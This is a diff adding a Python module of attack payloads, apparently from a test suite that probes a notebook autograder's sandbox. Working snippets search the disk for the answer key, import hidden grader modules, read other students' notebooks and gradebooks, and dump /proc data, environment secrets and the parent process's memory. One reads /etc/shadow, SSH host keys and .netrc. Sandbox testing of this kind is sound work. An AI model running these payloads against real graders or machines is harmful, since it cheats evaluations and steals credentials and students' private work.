@@ -1,0 +1,139 @@
+"""Reading what is not the student's: answers, probes, other students' work, the grader's memory.
+
+What is found is printed between `FOUND` marks and sent back as the answer of `clip`, so that a test sees it. Only names and
+first bytes are kept.
+"""
+
+from . import Attack
+
+COLLECT = """
+found = []
+def look(path, most=200):
+    try:
+        with open(path, "rb") as file:
+            found.append((str(path), file.read(most)))
+    except OSError:
+        pass
+"""
+
+REPORT = """
+def clip(gradients, maxValue): return [path for path, start in found]
+print("FOUND", found)
+"""
+
+ANSWER_KEY = """
+import os
+for start in (".", "..", "/", "/work", "/home", "/root", "/srv", "/opt", "/usr", "/tmp"):
+    for folder, folders, files in os.walk(start):
+        if folder.count("/") > 7:
+            folders.clear()
+        for name in files:
+            path = os.path.join(folder, name)
+            if name == "dinosaur_island.ipynb" or (name == "dinosaur_island.py" and "source" in folder):
+                look(path)
+        if len(found) > 20:
+            break
+"""
+
+HIDDEN_PROBES = """
+import importlib
+for name in ("grader.probes", "grader.reference", "grader.plain", "grader.checks", "grader._source", "grader.seed"):
+    try:
+        module = importlib.import_module(name)
+        found.append((name, repr(getattr(module, "__file__", ""))))
+        if hasattr(module, "reference"):
+            clip = module.reference()["clip"]
+    except Exception:
+        pass
+"""
+
+SEED_FILE = """
+import glob
+for pattern in ("course.seed", "../course.seed", "../../course.seed", "/*/course.seed", "/*/*/course.seed", "/root/*.seed"):
+    for path in glob.glob(pattern):
+        look(path)
+"""
+
+OTHER_STUDENTS = """
+import glob
+for pattern in ("../*/dinosaur_island/*.ipynb", "../../*/dinosaur_island/*.ipynb", "/tmp/*/*/*.ipynb", "/tmp/*/*/*/*.ipynb"):
+    for path in glob.glob(pattern):
+        look(path)
+"""
+
+GRADEBOOK = """
+import glob
+for pattern in ("*.db", "../*.db", "/tmp/*/*.db", "/tmp/*/*/*.db", "/tmp/*/results.jsonl", "/tmp/*/*/results.jsonl"):
+    for path in glob.glob(pattern):
+        look(path)
+"""
+
+PROC = """
+import os
+for who in ("self", "thread-self", str(os.getppid()), "1", *map(str, range(2, 60))):
+    for what in ("environ", "cmdline", "maps", "mem"):
+        if what != "mem" or who != "self":
+            look(f"/proc/{who}/{what}", 50)
+"""
+
+PROC_FDS = """
+import os
+for who in ("self", str(os.getppid()), "1"):
+    try:
+        for number in os.listdir(f"/proc/{who}/fd"):
+            look(f"/proc/{who}/fd/{number}", 50)
+    except OSError:
+        pass
+"""
+
+ENVIRONMENT = """
+import os
+found += [(name, value) for name, value in os.environ.items() if "SEED" in name or "TOKEN" in name or "KEY" in name]
+"""
+
+INHERITED = """
+import os
+for number in range(3, 64):
+    try:
+        os.set_blocking(number, False)
+        data = os.pread(number, 50, 0)
+        if data:
+            found.append((str(number), data))
+    except OSError:
+        pass
+"""
+
+PEEK_PARENT = """
+import ctypes
+import os
+buffer = ctypes.create_string_buffer(64)
+class Span(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+here, there = Span(ctypes.addressof(buffer), 64), Span(0x400000, 64)
+if ctypes.CDLL(None).process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
+    found.append(("parent", buffer.raw))
+"""
+
+SECRETS = """
+for path in ("/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/root/.bash_history", "/root/.netrc"):
+    look(path, 20)
+"""
+
+
+def _reading(name: str, why: str, body: str, level: str = "strict") -> Attack:
+    return Attack(name, why, first=COLLECT + body, cells={"clip": REPORT}, level=level)
+
+
+ATTACKS = (
+    _reading("read-answer-key", "the disk is searched for the solved notebook", ANSWER_KEY),
+    _reading("read-probes", "the grader's own modules are imported", HIDDEN_PROBES, "process"),
+    _reading("read-seed", "the course's seed file is looked for", SEED_FILE),
+    _reading("read-others", "other students' notebooks are looked for", OTHER_STUDENTS),
+    _reading("read-gradebook", "gradebook and journal are looked for", GRADEBOOK),
+    _reading("read-proc", "/proc of self, parent and siblings", PROC),
+    _reading("read-proc-fds", "the parent's open files by /proc", PROC_FDS),
+    _reading("read-environment", "secrets in the environment", ENVIRONMENT, "process"),
+    _reading("read-descriptors", "every inherited descriptor is read", INHERITED, "process"),
+    _reading("read-parent-memory", "the parent's memory", PEEK_PARENT),
+    _reading("read-secrets", "the machine's own secrets", SECRETS),
+)
